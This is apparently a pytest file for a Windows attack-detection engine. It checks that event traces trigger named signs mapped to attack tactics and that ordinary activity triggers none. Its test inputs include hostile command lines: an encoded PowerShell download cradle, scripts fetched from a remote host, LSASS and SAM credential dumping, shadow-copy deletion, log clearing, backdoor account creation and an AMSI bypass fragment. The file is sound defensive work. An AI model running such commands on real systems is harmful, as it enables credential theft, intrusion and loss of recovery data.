"""Signs: which traces show them, and that ordinary work and hostile lines do not trouble them."""

from __future__ import annotations

import base64
import time

import pytest

from pandora_core.detect.signs.book import BOOK
from pandora_core.detect.signs.sign import Kind, SignBook, Trace
from pandora_core.detect.signs.traces import traces_of
from pandora_core.model import Event
from tests.unit.streams import at, process, windows_event

SYSTEM32 = "C:\\Windows\\System32\\"
ENCODED = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')".encode("utf-16-le"))


def shown(event: Event) -> set[str]:
    return {sign.name for trace in traces_of(event) for sign in BOOK.shown_by(trace)}


def registry(path: str, value: str = "", program: str = "reg.exe", action: str = "registry-set") -> Event:
    return windows_event(
        at(),
        "registry",
        action,
        "13",
        dataset="windows.sysmon",
        registry__path=path,
        Details=value,
        process__executable=f"{SYSTEM32}{program}",
    )


def sysmon(category: str, action: str, **more: object) -> Event:
    return windows_event(at(), category, action, "1", dataset="windows.sysmon", **more)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("command", "parent", "sign"),
    [
        ("powershell.exe -nop -enc " + ENCODED.decode(), "cmd.exe", "encoded-powershell"),
        ("powershell.exe -nop -enc " + ENCODED.decode(), "cmd.exe", "script-downloads-and-runs"),
        ("p^ow^ershell.exe -w hid^den -ep bypass -c dir", "cmd.exe", "hidden-powershell"),
        ("cmd.exe /c whoami", "WINWORD.EXE", "shell-from-document"),
        ("cmd.exe /c dir", "w3wp.exe", "shell-from-web-server"),
        ("cmd.exe /c dir", "wbem\\WmiPrvSE.exe", "wmi-started-tool"),
        ("cmd.exe /Q /c dir 1> \\\\127.0.0.1\\ADMIN$\\__17 2>&1", "wbem\\WmiPrvSE.exe", "output-to-share"),
        ("cmd.exe /c dir", "services.exe", "service-started-shell"),
        ("ipconfig.exe", "winrshost.exe", "winrs"),
        ("whoami.exe", "osk.exe", "accessibility-shell"),
        ("rundll32.exe", "explorer.exe", "system-host-without-arguments"),
        (
            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 612 o.bin full",
            "cmd.exe",
            "lsass-dump-by-library",
        ),
        ("reg.exe  save   hklm\\sam C:\\x\\sam.out", "cmd.exe", "account-database-copied"),
        ("vssadmin.exe delete shadows /all /quiet", "cmd.exe", "shadow-copies-deleted"),
        ("wevtutil.exe cl Security", "cmd.exe", "log-cleared-by-command"),
        ("mshta.exe http://192.0.2.4/a.hta", "explorer.exe", "script-from-web"),
        ("regsvr32.exe /s /n /u /i:http://192.0.2.4/a.sct scrobj.dll", "cmd.exe", "script-from-web"),
        ("schtasks.exe /create /s SRV-1 /tn t /tr x.exe /sc once", "cmd.exe", "task-on-other-host"),
        ("wmic.exe /node:SRV-1 process call create x.exe", "cmd.exe", "remote-execution-command"),
        ("net.exe user helper Pa55 /add", "cmd.exe", "account-by-command"),
        (
            "reg.exe add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d C:\\Temp\\a.vbs",
            "x.exe",
            "run-key-odd",
        ),
        (
            'reg.exe add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /d 0',
            "x.exe",
            "remote-desktop-opened",
        ),
    ],
)
def test_what_a_program_was_told_shows_a_sign(command: str, parent: str, sign: str) -> None:
    image = SYSTEM32 + command.partition(" ")[0].replace("^", "")
    assert sign in shown(process(at(), command, SYSTEM32 + parent, image=image))


@pytest.mark.parametrize(
    ("event", "sign"),
    [
        (
            registry(
                "HKLM\\Software\\X\\Image File Execution Options\\a.exe\\Debugger",
                "b.exe",
            ),
            "image-hijack",
        ),
        (
            registry(
                "HKLM\\SAM\\SAM\\Domains\\Account\\Users\\Names\\helper$\\(Default)", "Binary Data", "lsass.exe"
            ),
            "account-hidden",
        ),
        (
            registry("HKLM\\SOFTWARE\\Policies\\X\\PowerShell\\ScriptBlockLogging", action="registry-deleted"),
            "script-logging-removed",
        ),
        (
            sysmon(
                "process",
                "process-accessed",
                process__executable="C:\\Users\\a\\tool.exe",
                GrantedAccess="0x1010",
                TargetImage=f"{SYSTEM32}lsass.exe",
                CallTrace="ntdll.dll+1|UNKNOWN(01)",
            ),
            "lsass-read",
        ),
        (
            sysmon(
                "process",
                "thread-injected",
                process__executable="C:\\Users\\a\\tool.exe",
                TargetImage=f"{SYSTEM32}lsass.exe",
            ),
            "thread-in-lsass",
        ),
        (
            sysmon("file", "file-written", process__executable="System", file__path="C:\\ProgramData\\x.dll"),
            "written-from-other-host",
        ),
        (
            sysmon("file", "file-written", process__executable="C:\\a.exe", file__path="C:\\Temp\\lsass.dmp"),
            "lsass-dump-file",
        ),
        (
            sysmon("file", "pipe-created", process__executable="C:\\a.exe", file__name="\\PSEXESVC-WS-5-12-stdin"),
            "pipe-of-remote-tool",
        ),
        (
            sysmon(
                "configuration",
                "wmi-subscription-created",
                Operation="Created",
                Type="Command Line",
                Destination="x.exe",
            ),
            "subscription-runs-code",
        ),
        (windows_event(at(), "configuration", "log-cleared", "1102", user="bob"), "log-cleared"),
        (
            windows_event(at(), "configuration", "defence-disabled", "5001", dataset="windows.defender"),
            "defender-off",
        ),
        (
            windows_event(
                at(),
                "configuration",
                "task-created",
                "4698",
                user="bob",
                task__name="\\x",
                task__content="<Exec><Command>powershell</Command></Exec>",
            ),
            "task-runs-code",
        ),
        (
            windows_event(
                at(),
                "iam",
                "group-member-added",
                "4732",
                user="bob",
                group__name="Administrators",
                TargetSid="S-1-5-32-544",
            ),
            "administrator-made",
        ),
        (
            windows_event(
                at(),
                "iam",
                "directory-access",
                "4662",
                user="bob",
                AccessMask="0x100",
                Properties="%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}",
            ),
            "directory-replicated",
        ),
        (
            windows_event(
                at(), "iam", "computer-changed", "4742", user="ANONYMOUS LOGON", user__target__name="DC-1$"
            ),
            "machine-changed-by-nobody",
        ),
        (
            windows_event(
                at(),
                "authentication",
                "logon",
                "4624",
                user="bob",
                winlog__logon__type=9,
                LogonProcessName="seclogo ",
                authentication__method="Negotiate",
            ),
            "other-credentials",
        ),
        (
            windows_event(
                at(),
                "file",
                "share-accessed",
                "5145",
                user="bob",
                source="10.0.0.5",
                share__name="C$",
                file__path="Windows\\x.exe",
                AccessMask="0x2",
            ),
            "written-to-admin-share",
        ),
        (
            windows_event(
                at(),
                "process",
                "script-run",
                "4104",
                dataset="windows.powershell",
                script__text="[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')",
            ),
            "script-blinds-scanner",
        ),
    ],
)
def test_what_an_event_says_shows_a_sign(event: Event, sign: str) -> None:
    assert sign in shown(event)


@pytest.mark.parametrize(
    "event",
    [
        process(at(), "notepad.exe letter.txt", "C:\\Windows\\explorer.exe"),
        process(at(), "svchost.exe -k netsvcs -p -s Themes", f"{SYSTEM32}services.exe"),
        process(at(), "powershell.exe -NoLogo", "C:\\Windows\\explorer.exe"),
        process(at(), "mmc.exe services.msc", "C:\\Windows\\explorer.exe"),
        process(at(), "rundll32.exe shell32.dll,Control_RunDLL", "C:\\Windows\\explorer.exe"),
        process(at(), "wmiprvse.exe -secured -Embedding", f"{SYSTEM32}svchost.exe"),
        windows_event(
            at(), "iam", "directory-access", "4662", user="DC-2$", Properties="{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"
        ),
        windows_event(
            at(),
            "authentication",
            "logon",
            "4624",
            user="bob",
            winlog__logon__type=3,
            authentication__method="Kerberos",
        ),
        sysmon(
            "process",
            "process-accessed",
            process__executable=f"{SYSTEM32}svchost.exe",
            GrantedAccess="0x1410",
            TargetImage=f"{SYSTEM32}lsass.exe",
            CallTrace="ntdll.dll+1",
        ),
        sysmon(
            "file",
            "file-written",
            process__executable="C:\\Program Files\\Office\\WINWORD.EXE",
            file__path="C:\\Users\\a\\b.docx",
        ),
        windows_event(
            at(),
            "file",
            "share-accessed",
            "5145",
            user="bob",
            source="10.0.0.5",
            share__name="Teams",
            file__path="a.xlsx",
        ),
        registry("HKLM\\SYSTEM\\CurrentControlSet\\Services\\Tcpip\\Parameters\\Hostname", "WS-5", "svchost.exe"),
    ],
)
def test_ordinary_work_shows_no_sign(event: Event) -> None:
    assert shown(event) == set()


def test_every_sign_has_a_technique_a_tactic_and_points() -> None:
    tactics = {
        *(
            "initial-access",
            "execution",
            "persistence",
            "privilege-escalation",
            "defense-evasion",
            "credential-access",
        ),
        *("discovery", "lateral-movement", "collection", "command-and-control", "exfiltration", "impact"),
    }
    for sign in BOOK.by_name.values():
        assert sign.tactics, sign.name
        assert set(sign.tactics) <= tactics, sign.name
        assert all(technique.startswith("T1") for technique in sign.techniques), sign.name
        assert sign.techniques, sign.name
        assert 0 < sign.points <= 80, sign.name


def test_every_word_of_a_sign_can_be_a_word_of_a_text() -> None:
    for sign in BOOK.by_name.values():
        findable = [word for word in sign.words if word.replace("_", "").replace("$", "").isalnum()]
        assert findable or not sign.words, sign.name


def test_two_signs_of_one_name_are_refused() -> None:
    sign = Kind("process")("a", "says", "execution", "T1059", 10)
    with pytest.raises(ValueError, match="two signs are called a"):
        SignBook([sign, sign])


def test_a_condition_that_no_sign_has_is_refused() -> None:
    with pytest.raises(ValueError, match="sign a: no such condition: parent"):
        Kind("process")("a", "says", "execution", "T1059", 10, parent="cmd")


def test_what_is_remembered_says_the_same_as_what_is_found_anew() -> None:
    trace = Trace("process", "vssadmin", "cmd", "vssadmin delete shadows /all")
    assert BOOK.shown_by(trace) == BOOK.shown_by(trace) != ()
    long = trace._replace(text=trace.text + " " * 40_000)
    assert BOOK.shown_by(long) == BOOK.shown_by(trace)


@pytest.mark.parametrize(
    "piece", ["wmic /node: process ", "iex downloadstring ", "schtasks /create cmd ", "'a'+", "{1}", "\\", "-w h "]
)
def test_a_hostile_line_costs_little(piece: str) -> None:
    text = (piece * 20_000)[:60_000]
    start = time.process_time()
    shown(process(at(), f"powershell.exe {text}"))
    shown(windows_event(at(), "process", "script-run", "4104", dataset="windows.powershell", script__text=text))
    assert time.process_time() - start < 5


def test_values_that_are_no_numbers_are_no_rights() -> None:
    event = sysmon("process", "process-accessed", GrantedAccess="0xyz", TargetImage=f"{SYSTEM32}lsass.exe")
    assert shown(event) == set()
